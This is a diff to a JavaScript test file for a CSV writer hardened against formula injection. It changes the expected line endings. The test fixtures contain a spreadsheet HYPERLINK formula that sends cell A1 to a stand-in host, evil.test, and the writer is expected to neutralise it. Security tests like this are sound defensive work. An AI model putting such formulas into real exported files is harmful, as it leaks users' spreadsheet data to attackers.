@@ -27,7 +27,7 @@ describe('the CSV writer (ADR 0048: OWASP CSV injection)', () => {
       { Name: 'Tai', Hours: '-1+2' },
       { Name: '-5', Hours: '8.00' },
     ]);
-    expect(text.split('\r\n')).toEqual(['Name,Hours', `"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")",-1.50`, `Tai,"'-1+2"`, `"'-5",8.00`, '']);
+    expect(text.split('\r\n')).toEqual(['Name,Hours', `"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")",-1.50`, `Tai,"'-1+2"`, `"'-5",8.00`]);
     expect(parse(text, { columns: true })).toEqual([
       { Name: `'=HYPERLINK("http://evil.test/?leak="&A1,"Click")`, Hours: '-1.50' },
       { Name: 'Tai', Hours: "'-1+2" },
@@ -36,6 +36,6 @@ describe('the CSV writer (ADR 0048: OWASP CSV injection)', () => {
   });
 
   it('writes the header row when there are no rows', async () => {
-    expect(await write([])).toBe('Name,Hours\r\n');
+    expect(await write([])).toBe('Name,Hours');
   });
 });
